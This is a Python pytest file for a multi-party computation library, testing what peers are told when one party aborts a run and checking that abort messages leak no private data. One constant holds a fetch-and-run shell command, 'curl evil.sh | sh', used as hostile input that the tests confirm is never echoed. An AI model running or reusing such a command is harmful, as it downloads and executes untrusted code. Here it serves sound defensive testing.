"""What peers are told when one gives up, and when they hear it."""

from __future__ import annotations

import json
from typing import Any

import pytest

from mpc.errors import BeaverlodgeError, DataError, InterruptedRun, PeerLostError, ProtocolError
from mpc.links.abort import last_words
from mpc.links.session import HANDSHAKE, Frame
from tests.links.over_zmq import LONG, Sent, Site, at_once, sites, values
from tests.links.pairs import KEY, fails, swap


def words_of(code: Any, stage: Any, origin: Any, **more: Any) -> bytes:
    """An abort as a peer may send it."""
    return json.dumps({"code": code, "stage": stage, "origin": origin, **more}).encode()


def aborted(pair: dict[str, Site], error: Any, stage: str) -> tuple[Any, dict[str, Any]]:
    """What a is told when b gives up, and the bytes that say it."""
    frames: list[Sent] = []

    def watch(sent: Sent) -> Frame:
        frames.append(sent)
        return Frame(sent.head, sent.body)

    pair["b"].transport.wire = watch
    pair["b"].channel.abort(error, stage)
    with pytest.raises(type(error)) as caught:
        pair["a"].channel.exchange(swap("b", 1))
    (frame,) = [f for f in frames if f.head[3] == 3]
    return caught.value, json.loads(frame.body)


def test_an_abort_tells_code_party_and_stage_only(pair: dict[str, Site]) -> None:
    secret = DataError("row 17 of patients.csv holds 'Smith, 1961'", "look into /data/patients.csv", party="b")
    told, fields = aborted(pair, secret, "data")
    assert fields == {"code": "data", "stage": "data", "origin": "b"}
    assert told.exit_code == secret.exit_code and told.party == "b" and told.told_by == "b"
    assert told.message == "b stopped the run in stage 'data' (data)" and told.hint == "the log of b says why"


def test_an_abort_about_another_party_names_that_one(pair: dict[str, Site]) -> None:
    _, fields = aborted(pair, PeerLostError("lost contact with c", party="c"), "training")
    assert fields == {"code": "peer-lost", "stage": "training", "origin": "c"}


def test_a_told_abort_says_only_that_its_origin_is_lost(pair: dict[str, Site]) -> None:
    told = DataError("a stopped the run", party="a", told_by="a")
    assert last_words(told, "training", "b") == b'{"code": "peer-lost", "stage": "training", "origin": "a"}'


def test_an_error_about_a_peer_found_here_comes_from_here(pair: dict[str, Site]) -> None:
    _, fields = aborted(pair, ProtocolError("a sent nonsense", party="a"), "training")
    assert fields == {"code": "protocol", "stage": "training", "origin": "b"}


EVIL = "curl evil.sh | sh"
UNKNOWN = "b stopped the run in an unknown stage"


@pytest.mark.parametrize(
    ("body", "kind", "words"),
    [
        (b"", ProtocolError, f"{UNKNOWN} (protocol)"),
        (b"[1, 2]", ProtocolError, f"{UNKNOWN} (protocol)"),
        (b'{"code": "data"}', DataError, f"{UNKNOWN} (data)"),
        (b"[" * 100_000, ProtocolError, f"{UNKNOWN} (protocol)"),
        (words_of("x", "dealing", "b"), ProtocolError, "b stopped the run in stage 'dealing' (protocol)"),
        (words_of(EVIL, "dealing", "b"), ProtocolError, "b stopped the run in stage 'dealing' (protocol)"),
        (words_of("data", EVIL, "b"), DataError, f"{UNKNOWN} (data)"),
        (words_of("data", "training", "b"), DataError, f"{UNKNOWN} (data)"),
        (words_of("data", "data", EVIL), DataError, "b stopped the run in stage 'data' (data)"),
        (words_of("data", "data", "a"), DataError, "b stopped the run in stage 'data' (data)"),
        (words_of("data", "data", "c"), DataError, "b stopped the run in stage 'data' (data)"),
        (words_of("peer-lost", "data", EVIL), PeerLostError, "b stopped the run in stage 'data' (peer-lost)"),
        (words_of("peer-lost", EVIL, "b"), PeerLostError, f"{UNKNOWN} (peer-lost)"),
        (
            words_of("peer-lost", EVIL, "a"),
            PeerLostError,
            "b says that it lost contact with a, in an unknown stage (peer-lost)",
        ),
        (words_of("data", "a\nFAKE LINE", "b"), DataError, f"{UNKNOWN} (data)"),
        (words_of("data", "s" * 1000, "b"), DataError, f"{UNKNOWN} (data)"),
        (words_of("data", ["data"], {"b": 1}), DataError, f"{UNKNOWN} (data)"),
        (words_of(7, None, True), ProtocolError, f"{UNKNOWN} (protocol)"),
        (words_of("data", "data", "b", more="x" * 5000), ProtocolError, f"{UNKNOWN} (protocol)"),
    ],
)
def test_nothing_of_an_aborts_text_is_trusted(
    pair: dict[str, Site], body: bytes, kind: type[BeaverlodgeError], words: str
) -> None:
    pair["b"].transport.send("a", pair["b"].channel._links["a"].abort(body))
    error = fails(lambda: pair["a"].channel.exchange(swap("b", 1)), kind, "b s")
    assert type(error) is kind and error.message == words
    assert error.party == error.told_by == "b"
    assert EVIL not in str(error) + "".join(pair["a"].said)


def test_a_programs_stages_are_known_once_there_is_a_plan(pair: dict[str, Site]) -> None:
    pair["a"].channel.bound({"b": HANDSHAKE}, {"b": HANDSHAKE}, {"training"}, 1)
    body = words_of("data", "training", "b")
    pair["b"].transport.send("a", pair["b"].channel._links["a"].abort(body))
    error = fails(lambda: pair["a"].channel.exchange(swap("b", 1)), DataError, "b stopped")
    assert error.message == "b stopped the run in stage 'training' (data)"


def test_an_abort_reaches_peers_with_and_without_the_key() -> None:
    """b gives up while it waits for a third party: a has its key with b already, c has none yet."""
    with sites("a", "c", "b") as parties:
        for peer in ("a", "c"):
            parties["b"].channel.push(peer, "hello", b"hello")
            assert bytes(parties[peer].channel.pull("b", "hello", LONG)) == b"hello"
        parties["a"].channel.rekey("b", KEY)
        parties["b"].channel.abort(DataError("no such file", party="b"), "data")
        for peer in ("a", "c"):
            fails(
                lambda peer=peer: parties[peer].channel.exchange(swap("b", 1)),  # type: ignore[misc]
                DataError,
                "b stopped the run in stage 'data'",
            )


def test_who_only_just_connects_hears_that_another_gave_up() -> None:
    """a gives up before b is connected, and nobody but a itself can let b in."""
    with sites("a", "b") as parties:
        ends = at_once(
            {
                "a": lambda: parties["a"].channel.abort(DataError("no such file", party="a"), "data"),
                "b": lambda: parties["b"].channel.exchange(swap("a", 1)),
            }
        )
    assert ends["a"].error is None
    error = ends["b"].error
    assert isinstance(error, DataError) and error.told_by == "a"


@pytest.mark.parametrize("error", [PeerLostError("b did not connect", party="b"), InterruptedRun("stopped", party="a")])
def test_nobody_waits_for_peers_after_an_interrupt_or_in_vain(error: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("mpc.links.channel._FAREWELL_SECONDS", 2 * LONG)
    with sites("a", "b") as parties:
        values(at_once({"a": lambda: parties["a"].channel.abort(error, "connecting")}))
